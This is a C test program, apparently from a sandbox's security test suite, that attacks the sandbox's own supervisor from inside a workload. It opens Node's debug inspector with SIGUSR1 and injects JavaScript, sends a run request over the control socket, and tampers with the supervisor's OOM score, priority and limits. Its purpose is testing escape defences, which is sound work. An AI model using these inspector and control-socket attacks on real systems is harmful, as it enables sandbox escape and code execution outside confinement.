// The supervisor itself as the target (ZVIZ_ATTACK_AGENT_PID: the agent's
// pid, or "parent" for the process that started the workload, which is
// `zviz run --standalone` there; ZVIZ_ATTACK_AGENT_SOCKET: the agent's control
// socket). Each argument is one attack:
//   signal        kill(supervisor, SIGURG): may the workload signal it at all (SIGURG is ignored)?
//   inspector     SIGUSR1 opens Node's inspector on 127.0.0.1:9229 unless the process handles it;
//                 then Runtime.evaluate runs JavaScript in the supervisor, which creates
//                 ZVIZ_ATTACK_OUTSIDE/new-via-inspector
//   control       asks the agent, over its control socket, to run a container under `observe`
//                 that creates ZVIZ_ATTACK_OUTSIDE/new-via-control-socket
//   oom           writes the supervisor's own oom_score_adj back to it (the write is the proof)
//   clone-parent  clone(CLONE_PARENT): children of the supervisor that exit at once, as zombies
//   scheduling    sets the supervisor's nice value, CPU affinity, I/O priority and file limit
//                 to what they are (same uid: no capability needed); the writes are the proof
//   renice        raises the supervisor's nice value by one (no capability needed to lower a
//                 priority), which the test reads on the node and sets back
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>

static const char* outside;
static pid_t agent;

static int tcp_connect(const char* name, int port) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (s < 0 || connect(s, (struct sockaddr*)&addr, sizeof(addr)) != 0) {
    outcome(name, -1);
    if (s >= 0) close(s);
    return -1;
  }
  return s;
}

static ssize_t read_some(int s, char* buf, size_t size) {
  size_t got = 0;
  for (int i = 0; i < 50 && got < size - 1; i++) {
    ssize_t n = recv(s, buf + got, size - 1 - got, 0);
    if (n <= 0) break;
    got += (size_t)n;
    buf[got] = '\0';
    if (strstr(buf, "\r\n\r\n") && (strstr(buf, "]") || strstr(buf, "101"))) break;
  }
  buf[got] = '\0';
  return (ssize_t)got;
}

static void inspector(void) {
  outcome("inspector-sigusr1", kill(agent, SIGUSR1));
  int s = -1;
  for (int i = 0; i < 40 && s < 0; i++) {
    usleep(100 * 1000);
    int t = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(9229)};
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(t, (struct sockaddr*)&addr, sizeof(addr)) == 0) {
      s = t;
    } else {
      close(t);
    }
  }
  if (s < 0) {
    outcome("inspector-connect", -1);
    return;
  }
  say("inspector-connect ok");
  static char buf[65536];
  const char* list = "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:9229\r\n\r\n";
  (void)!send(s, list, strlen(list), 0);
  read_some(s, buf, sizeof(buf));
  close(s);
  char* at = strstr(buf, "ws://127.0.0.1:9229/");
  if (!at) {
    say("inspector-eval errno ENOENT (no debugger URL)");
    return;
  }
  char target[128];
  sscanf(at + strlen("ws://127.0.0.1:9229"), "%127[^\"]", target);
  if ((s = tcp_connect("inspector-eval", 9229)) < 0) return;
  char request[512];
  snprintf(request, sizeof(request),
           "GET %s HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
           target);
  (void)!send(s, request, strlen(request), 0);
  read_some(s, buf, sizeof(buf));
  if (!strstr(buf, " 101 ")) {
    say("inspector-eval errno EPROTO (no websocket)");
    close(s);
    return;
  }
  char payload[1024];
  int len = snprintf(payload, sizeof(payload),
                     "{\"id\":1,\"method\":\"Runtime.evaluate\",\"params\":{\"expression\":"
                     "\"process.mainModule.require('fs').writeFileSync('%s/new-via-inspector', "
                     "'written by a sandboxed workload through the inspector\\\\n'); 'done'\"}}",
                     outside);
  unsigned char frame[1100];
  size_t at_byte = 0;
  frame[at_byte++] = 0x81;
  if (len < 126) {
    frame[at_byte++] = (unsigned char)(0x80 | len);
  } else {
    frame[at_byte++] = 0x80 | 126;
    frame[at_byte++] = (unsigned char)(len >> 8);
    frame[at_byte++] = (unsigned char)(len & 0xff);
  }
  const unsigned char mask[4] = {1, 2, 3, 4};
  memcpy(frame + at_byte, mask, 4);
  at_byte += 4;
  for (int i = 0; i < len; i++) frame[at_byte++] = (unsigned char)payload[i] ^ mask[i % 4];
  (void)!send(s, frame, at_byte, 0);
  ssize_t n = 0;
  for (int i = 0; i < 50; i++) {
    ssize_t r = recv(s, buf + n, sizeof(buf) - 1 - (size_t)n, 0);
    if (r <= 0) break;
    n += r;
    buf[n] = '\0';
    if (memmem(buf, (size_t)n, "\"id\":1", 6)) break;
  }
  close(s);
  char* result = n > 0 ? memmem(buf, (size_t)n, "\"id\":1", 6) : NULL;
  if (result && strstr(result, "done")) {
    say("inspector-eval ok");
  } else {
    say("inspector-eval errno EPROTO (no result)");
  }
}

static void control(void) {
  const char* path = need_env("ZVIZ_ATTACK_AGENT_SOCKET");
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
  if (outcome("control-connect", connect(s, (struct sockaddr*)&addr, sizeof(addr))) < 0) return;
  char request[1024];
  int len = snprintf(request, sizeof(request),
                     "{\"type\":\"run\",\"version\":1,\"profile\":\"observe\",\"name\":\"escaped\","
                     "\"command\":[\"/bin/sh\",\"-c\",\"echo written through the control socket > %s/new-via-control-socket\"],"
                     "\"env\":{\"PATH\":\"/usr/bin:/bin\"},\"cwd\":\"/\",\"limits\":{},\"restart\":\"no\"}",
                     outside);
  int fds[3] = {0, 1, 2};
  char control_buf[CMSG_SPACE(sizeof(fds))];
  memset(control_buf, 0, sizeof(control_buf));
  struct iovec iov = {request, (size_t)len};
  struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control_buf, .msg_controllen = sizeof(control_buf)};
  struct cmsghdr* cmsg = CMSG_FIRSTHDR(&msg);
  cmsg->cmsg_level = SOL_SOCKET;
  cmsg->cmsg_type = SCM_RIGHTS;
  cmsg->cmsg_len = CMSG_LEN(sizeof(fds));
  memcpy(CMSG_DATA(cmsg), fds, sizeof(fds));
  if (outcome("control-send", sendmsg(s, &msg, 0)) < 0) return;
  static char answer[8192];
  ssize_t n = 0;
  for (int i = 0; i < 100 && n < (ssize_t)sizeof(answer) - 1; i++) {
    ssize_t r = recv(s, answer + n, sizeof(answer) - 1 - (size_t)n, 0);
    if (r <= 0) break;
    n += r;
    answer[n] = '\0';
    if (strstr(answer, "\"done\"") || strstr(answer, "\"error\"")) break;
  }
  close(s);
  if (strstr(answer, "\"type\":\"done\"")) {
    say("control-run ok");
  } else if (strstr(answer, "\"type\":\"error\"")) {
    char* nl = strchr(answer, '\n');
    if (nl) *nl = '\0';
    say("control-run errno EPERM (%s)", answer);
  } else {
    say("control-run errno EPROTO (no answer)");
  }
}

static void oom(void) {
  char path[64], value[32];
  snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", agent);
  int fd = open(path, O_RDWR | O_CLOEXEC);
  if (outcome("oom-open", fd) < 0) return;
  ssize_t n = read(fd, value, sizeof(value) - 1);
  if (n <= 0) {
    outcome("oom-write", -1);
    close(fd);
    return;
  }
  outcome("oom-write", pwrite(fd, value, (size_t)n, 0));
  close(fd);
}

static int quit(void* arg) {
  (void)arg;
  _exit(0);
}

static void clone_parent(void) {
  static char stacks[20][16384];
  int made = 0, err = 0;
  for (int i = 0; i < 20; i++) {
    if (clone(quit, stacks[i] + sizeof(stacks[i]), CLONE_PARENT | SIGCHLD, NULL) < 0) {
      err = errno;
      break;
    }
    made++;
  }
  if (made == 0) {
    errno = err;
    outcome("clone-parent", -1);
  } else {
    say("clone-parent ok %d", made);
  }
}

static void scheduling(void) {
  errno = 0;
  int nice_value = getpriority(PRIO_PROCESS, (id_t)agent);
  if (nice_value == -1 && errno != 0) {
    outcome("setpriority", -1);
  } else {
    outcome("setpriority", setpriority(PRIO_PROCESS, (id_t)agent, nice_value));
  }
  cpu_set_t cpus;
  if (sched_getaffinity(agent, sizeof(cpus), &cpus) != 0) {
    outcome("sched-setaffinity", -1);
  } else {
    outcome("sched-setaffinity", sched_setaffinity(agent, sizeof(cpus), &cpus));
  }
  // IOPRIO_WHO_PROCESS (1): the class IDLE would starve the supervisor's disk I/O behind the node's.
  long ioprio = syscall(SYS_ioprio_get, 1, agent);
  if (ioprio < 0) {
    outcome("ioprio-set", -1);
  } else {
    outcome("ioprio-set", syscall(SYS_ioprio_set, 1, agent, ioprio));
  }
  struct rlimit limit;
  if (prlimit(agent, RLIMIT_NOFILE, NULL, &limit) != 0) {
    outcome("prlimit-nofile", -1);
  } else {
    outcome("prlimit-nofile", prlimit(agent, RLIMIT_NOFILE, &limit, NULL));
  }
}

static void renice(void) {
  errno = 0;
  int nice_value = getpriority(PRIO_PROCESS, (id_t)agent);
  if (nice_value == -1 && errno != 0) {
    outcome("renice", -1);
  } else {
    outcome("renice", setpriority(PRIO_PROCESS, (id_t)agent, nice_value + 1));
  }
}

int main(int argc, char** argv) {
  outside = need_env("ZVIZ_ATTACK_OUTSIDE");
  // "parent": the process that started the workload (the supervisor, unless a PID namespace hides it).
  const char* who = need_env("ZVIZ_ATTACK_AGENT_PID");
  agent = strcmp(who, "parent") == 0 ? getppid() : (pid_t)atoi(who);
  if (agent <= 1) {
    say("setup errno ESRCH (no supervisor to aim at: %d)", agent);
    return 0;
  }
  for (int i = 1; i < argc; i++) {
    if (strcmp(argv[i], "signal") == 0) outcome("signal", kill(agent, SIGURG));
    if (strcmp(argv[i], "inspector") == 0) inspector();
    if (strcmp(argv[i], "control") == 0) control();
    if (strcmp(argv[i], "oom") == 0) oom();
    if (strcmp(argv[i], "clone-parent") == 0) clone_parent();
    if (strcmp(argv[i], "scheduling") == 0) scheduling();
    if (strcmp(argv[i], "renice") == 0) renice();
  }
  return 0;
}
